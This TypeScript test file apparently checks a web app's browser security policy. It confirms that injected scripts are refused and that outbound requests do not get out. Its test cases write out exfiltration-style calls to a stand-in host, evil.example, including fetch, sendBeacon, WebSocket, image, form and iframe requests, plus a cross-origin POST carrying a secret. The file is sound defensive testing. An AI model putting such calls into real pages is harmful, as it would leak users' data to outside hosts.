/** What a page of ours can reach, in a real browser: nothing, and each attempt is counted. */
import type { Browser, Page } from 'playwright'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { REPORT_CSS } from '#report/html-style.ts'
import { type Loopback, startLoopback } from '../contract/loopback.ts'
import { hasBrowser } from './app-page.ts'
import { openBrowser } from './built-host.mjs'

const PAGE = `<!doctype html><title>page</title><p style="color: red" id="styled">text</p>
<script>document.title = 'inline script ran'</script><script src="/page.js"></script>`
const SCRIPT = `document.body.dataset.script = 'ran'`

let browser: Browser | null = null
let loopback: Loopback
let page: Page
beforeAll(async () => {
  browser = await openBrowser()
})
afterAll(() => browser?.close())

describe.skipIf(!hasBrowser)('the page', () => {
  beforeEach(async () => {
    loopback = await startLoopback({ '/page.html': PAGE, '/page.js': SCRIPT })
    page = (await browser?.newPage()) as Page
    await page.goto(`${new URL(loopback.host.url).origin}/page.html`)
  })
  afterEach(async () => {
    await page.close()
    await loopback.close()
  })
  const targets = () => loopback.attempts.map(({ by, target }) => `${by} ${target}`)

  test('runs the scripts it came with, and no other', async () => {
    expect(await page.evaluate(() => document.body.dataset.script)).toBe('ran')
    expect(await page.title()).toBe('page')
    const evaluated = await page.evaluate(() => {
      const script = document.createElement('script')
      script.textContent = `document.title = 'injected'`
      document.body.append(script)
      return document.title
    })
    expect(evaluated).toBe('page')
    // Refused, but nothing that reaches out: told to the log, not counted.
    await expect.poll(() => loopback.bugs.length, { timeout: 5000 }).toBeGreaterThan(0)
    expect(loopback.bugs[0]).toContain('inline')
    expect(loopback.attempts).toEqual([])
  })

  test.each<readonly [string, () => unknown, string]>([
    ['fetch', () => fetch('https://evil.example/a').catch(() => 0), 'https://evil.example/a'],
    [
      'a picture',
      () => Object.assign(new Image(), { src: 'https://evil.example/b.png' }),
      'https://evil.example/b.png',
    ],
    ['another port of this machine', () => fetch('http://127.0.0.1:9/').catch(() => 0), 'http://127.0.0.1:9/'],
    ['a beacon', () => navigator.sendBeacon('https://evil.example/c', 'x'), 'https://evil.example/c'],
    [
      'a web socket',
      () => {
        try {
          new WebSocket('wss://evil.example/d')
        } catch {}
      },
      'wss://evil.example/d',
    ],
    [
      'a form',
      () => {
        const form = document.createElement('form')
        form.action = 'https://evil.example/e'
        document.body.append(form)
        form.submit()
      },
      'https://evil.example/e',
    ],
    [
      'a frame of another site',
      () => {
        const frame = document.createElement('iframe')
        frame.src = 'https://evil.example/f'
        document.body.append(frame)
      },
      'https://evil.example/f',
    ],
    [
      'a picture in the sandboxed preview of a report',
      () => {
        const frame = document.createElement('iframe')
        frame.setAttribute('sandbox', '')
        frame.srcdoc = '<img src="https://evil.example/g.png">'
        document.body.append(frame)
      },
      'https://evil.example/g.png',
    ],
  ])('%s cannot reach out, and the attempt is counted', async (_what, attempt, target) => {
    const sent: string[] = []
    page.on('requestfinished', (request) => sent.push(request.url()))
    await page.evaluate(attempt)
    await expect.poll(targets, { timeout: 5000 }).toEqual([expect.stringContaining(new URL(target).host)])
    expect(sent.filter((url) => url.startsWith(target))).toEqual([])
  })

  test.each([
    ['the style sheet of a report is used', REPORT_CSS, 'rgb(251, 250, 247)'],
    ['any other is not', REPORT_CSS.replace('#fbfaf7', '#ff0000'), 'rgba(0, 0, 0, 0)'],
  ])('in the preview of a report, %s', async (_what, css, colour) => {
    await page.evaluate((sheet) => {
      const frame = document.createElement('iframe')
      frame.setAttribute('sandbox', 'allow-same-origin')
      frame.srcdoc = `<!doctype html><style>${sheet}</style><body>report</body>`
      document.body.append(frame)
    }, css)
    const body = page.frameLocator('iframe').locator('body')
    await body.waitFor()
    expect(await body.evaluate((element) => getComputedStyle(element).backgroundColor)).toBe(colour)
  })

  test('reads nothing of another origin and gives nothing of its own away', async () => {
    const other = await startLoopback()
    const foreign = (await browser?.newPage()) as Page
    await foreign.goto(`${new URL(other.host.url).origin}/`)
    const secret = loopback.secret()
    const answer = await foreign.evaluate(
      async ({ origin, body }) => {
        const headers = { 'content-type': 'application/json' }
        return fetch(`${origin}/session`, { method: 'POST', headers, body }).then(
          (response) => response.status,
          () => 'refused',
        )
      },
      { origin: new URL(loopback.host.url).origin, body: JSON.stringify({ secret }) },
    )
    expect(answer).toBe('refused')
    await foreign.close()
    await other.close()
  })

  test('cannot be put into a frame of another page', async () => {
    const outer = (await browser?.newPage()) as Page
    await outer.setContent(`<iframe src="${new URL(loopback.host.url).origin}/page.html"></iframe>`)
    await expect.poll(() => outer.frames()[1]?.url(), { timeout: 5000 }).toMatch(/^chrome-error:/)
    await outer.close()
  })
})
